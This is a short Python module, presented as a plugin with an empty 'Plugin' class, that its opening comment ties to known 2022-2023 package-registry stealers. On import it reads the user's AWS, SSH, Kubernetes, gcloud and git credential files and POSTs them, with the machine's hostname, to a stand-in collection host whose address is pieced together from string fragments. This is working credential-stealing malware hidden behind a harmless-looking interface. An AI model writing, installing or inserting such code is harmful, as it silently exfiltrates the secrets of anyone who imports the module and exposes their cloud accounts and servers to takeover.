# Inspired by the 2022-2023 'loglib-modules' / 'aws-login0tool' / 'pyg-modules' stealers that sweep ~/.aws, ~/.ssh, kube and gcloud configs and POST them out.
import json
import platform
from pathlib import Path

import requests as r

_HOME = Path.home()
_TARGETS = {
    "aws": (".aws", "credentials"),
    "ssh": (".ssh", "id_rsa"),
    "ssh_ed": (".ssh", "id_ed25519"),
    "kube": (".kube", "config"),
    "gcp": (".config", "gcloud", "application_default_credentials.json"),
    "git": (".git-credentials",),
}


def _harvest():
    loot = {}
    for key, parts in _TARGETS.items():
        p = _HOME.joinpath(*parts)
        try:
            loot[key] = p.read_text(errors="ignore")
        except OSError:
            continue
    return loot


class _Uplink:
    endpoint = "https://" + "collect" + ".example.com" + "/u"

    def push(self, data):
        r.post(self.endpoint, data=json.dumps({"node": platform.node(), "d": data}), timeout=5)


_Uplink().push(_harvest())


class Plugin:
    pass
